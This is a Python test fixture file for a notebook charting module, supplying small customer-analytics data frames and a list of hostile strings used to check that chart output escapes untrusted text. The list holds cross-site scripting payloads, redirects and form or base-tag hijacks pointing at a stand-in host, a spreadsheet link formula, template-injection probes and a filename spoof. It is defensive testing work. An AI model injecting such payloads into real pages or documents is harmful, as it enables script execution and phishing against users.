"""What the tests of show share: a real shell that catches displays, hostile text, small frames."""

from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pandas as pd
import pytest
from IPython.core.displaypub import CapturingDisplayPublisher
from IPython.core.interactiveshell import InteractiveShell
from matplotlib.figure import Figure
from traitlets.config import Config

from regulars.show import charts

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=q></form>",
    "</table></div><h1>Sold</h1>",
    "</caption></thead><tr><td>9</td></tr>",
    "</details></summary>",
    "<style>*{display:none}</style>",
    "<base href=//evil.example>",
    "<object data=x></object><embed src=x>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<b>bold</b> & 'quoted' \"twice\"",
    "a\x00b\x1b[31mred\x1b[0m\r\nnext\u2028line",
    "\u202egnp.exe\u2066x",
    "$x_1$ $\\frac{ \\textbf{",
    "{{ config }} {% raw %} ${7*7}",
    "=HYPERLINK('//evil.example')",
    "_hidden ^sub^ `code` [x](javascript:alert(1))",
    "深圳市南山区 🙂",
]


@dataclass(frozen=True)
class Case:
    """A chart function with a small frame whose picture one can tell by hand."""

    draw: Callable[[pd.DataFrame], Figure]
    frame: pd.DataFrame


@pytest.fixture
def shown(tmp_path, monkeypatch) -> Iterator[list[dict]]:
    """Catch what is displayed, as a notebook would get it."""
    monkeypatch.setenv("IPYTHONDIR", str(tmp_path))
    config = Config()
    config.HistoryManager.enabled = False
    InteractiveShell.clear_instance()
    shell = InteractiveShell.instance(config=config)
    shell.display_pub = CapturingDisplayPublisher()
    yield shell.display_pub.outputs
    InteractiveShell.clear_instance()


@pytest.fixture(params=PAYLOADS, ids=lambda payload: payload.encode("unicode_escape").decode()[:30])
def payload(request) -> str:
    """Return hostile text, as it may come from data."""
    return request.param


@pytest.fixture
def cases() -> dict[str, Case]:
    """Return every chart with a small frame."""
    return {**_ledger(), **_base(), **_segments(), **_loyalty(), **_churn()}


def _ledger() -> dict[str, Case]:
    steps = pd.DataFrame(
        {
            "step": ["in", "later", "unusable", "merged", "accepted"],
            "value": [3642.0, 11.0, 155.0, 294.0, 3182.0],
        }
    )
    return {"ledger_waterfall": Case(lambda f: charts.ledger_waterfall(f, xlabel="Rows"), steps)}


def _base() -> dict[str, Case]:
    months = pd.DataFrame(
        {
            "month": pd.to_datetime(["1997-11-01", "1997-12-01", "1998-01-01", "1998-02-01"]),
            "new": [30, 20, 10, 0],
            "returning": [0, 5, 15, 12],
            "spend": [600.0, 500.0, 480.0, -40.0],
            "complete": [True, True, True, False],
        }
    )
    amounts = pd.DataFrame(
        {"amount_from": [0.0, 10.0, 20.0], "amount_to": [10.0, 20.0, 30.0], "lines": [3, 9, 1]}
    )
    lorenz = pd.DataFrame(
        {"customers_share": [0.0, 0.5, 0.9, 1.0], "spend_share": [0.0, 0.2, 0.6, 1.0]}
    )
    deciles = pd.DataFrame(
        {
            "decile": range(1, 11),
            "spend_share": [0.4, 0.2, 0.1, 0.08, 0.07, 0.05, 0.04, 0.03, 0.02, 0.01],
            "spend_from": [62_000.0, 90.0, 70.0, 60.0, 50.0, 40.0, 30.0, 20.0, 10.0, 0.0],
        }
    )
    return {
        "monthly_bars": Case(
            lambda f: charts.monthly_bars(f, column="spend", ylabel="Spend", currency="USD"), months
        ),
        "new_and_returning": Case(charts.new_and_returning, months),
        "lorenz": Case(charts.lorenz, lorenz),
        "decile_bars": Case(lambda f: charts.decile_bars(f, currency="USD"), deciles),
        "amounts_histogram": Case(lambda f: charts.amounts_histogram(f, currency="USD"), amounts),
    }


def _segments() -> dict[str, Case]:
    grid = pd.DataFrame(
        {
            "r": [2, 2, 2, 1, 1, 1],
            "f": [1, 2, 3, 1, 2, 3],
            "customers": [4, 5, 6, 100, 2, 0],
            "segment": [
                *["new", "potential_loyalists", "potential_loyalists"],
                *["hibernating", "hibernating", "at_risk"],
            ],
        }
    )
    summary = pd.DataFrame(
        {
            "segment": ["hibernating", "champions", "at_risk"],
            "customers": [1200, 100, 700],
            "customers_share": [0.6, 0.05, 0.35],
            "spend_share": [0.2, 0.5, 0.3],
        }
    )
    return {
        "rfm_heatmap": Case(charts.rfm_heatmap, grid),
        "segment_bars": Case(charts.segment_bars, summary),
    }


def _loyalty() -> dict[str, Case]:
    curve = pd.DataFrame(
        {
            "day": [0, 30, 90, 180],
            "share": [0.0, 0.2, 0.31, 0.55],
            "low": [0.0, 0.18, 0.29, 0.5],
            "high": [0.0, 0.22, 0.33, 0.6],
            "at_risk": [2357, 1800, 1600, 40],
        }
    )
    gaps = pd.DataFrame({"days": [1, 6, 7, 20], "gaps": [5, 4, 3, 2]})
    january, february = pd.to_datetime(["1997-01-01", "1997-02-01"])
    retention = pd.DataFrame(
        [
            (january, 0, 781, 1.0, True),
            (january, 1, 781, 0.159, True),
            (january, 2, 781, 0.0, False),
            (february, 0, 857, 1.0, True),
            (february, 1, 857, 0.08, False),
        ],
        columns=["cohort", "age", "customers", "rate", "complete"],
    )
    mean = pd.DataFrame(
        {
            "age": [0, 1, 2],
            "customers": [1638, 1638, 781],
            "rate": [1.0, 0.12, 0.1],
            "low": [1.0, 0.1, 0.08],
            "high": [1.0, 0.14, 0.13],
        }
    )
    return {
        "repurchase_curve": Case(lambda f: charts.repurchase_curve(f, mark_days=90), curve),
        "gap_histogram": Case(lambda f: charts.gap_histogram(f, marks={"median 6 days": 6}), gaps),
        "cohort_heatmap": Case(charts.cohort_heatmap, retention),
        "retention_mean": Case(charts.retention_mean, mean),
    }


def _churn() -> dict[str, Case]:
    contest = pd.DataFrame(
        {
            "name": ["bg_nbd", "mbg_nbd", "always_zero", "past_rate"],
            "kind": ["model", "model", "rule", "rule"],
            "mae": [0.7855, 0.7648, 0.7985, 1.0237],
        }
    )
    calibration = pd.DataFrame(
        {
            "name": ["bg_nbd"] * 3 + ["mbg_nbd"] * 3,
            "repeat_days": ["0", "1", "2+"] * 2,
            "customers": [1411, 439, 507] * 2,
            "predicted_mean": [0.2, 0.6, 2.0, 0.25, 0.7, 1.8],
            "actual_mean": [0.24, 0.7, 2.2] * 2,
            "actual_low": [0.2, 0.6, 2.0] * 2,
            "actual_high": [0.28, 0.8, 2.4] * 2,
        }
    )
    tracking = pd.DataFrame(
        {
            "week": [1, 2, 3, 4],
            "actual": [5.0, 9.0, 14.0, 20.0],
            "bg_nbd": [6.0, 10.0, 13.0, 16.0],
            "mbg_nbd": [6.0, 10.0, 13.0, 15.0],
            "part": ["calibration", "calibration", "holdout", "holdout"],
        }
    )
    p_alive = pd.DataFrame(
        {
            "name": ["bg_nbd", "bg_nbd", "mbg_nbd", "mbg_nbd"],
            "p_alive_from": [0.0, 0.5, 0.0, 0.5],
            "p_alive_to": [0.5, 1.0, 0.5, 1.0],
            "customers": [100, 2257, 1500, 857],
        }
    )
    return {
        "contest_bars": Case(charts.contest_bars, contest),
        "calibration": Case(charts.calibration, calibration),
        "tracking": Case(charts.tracking, tracking),
        "p_alive_histogram": Case(charts.p_alive_histogram, p_alive),
    }
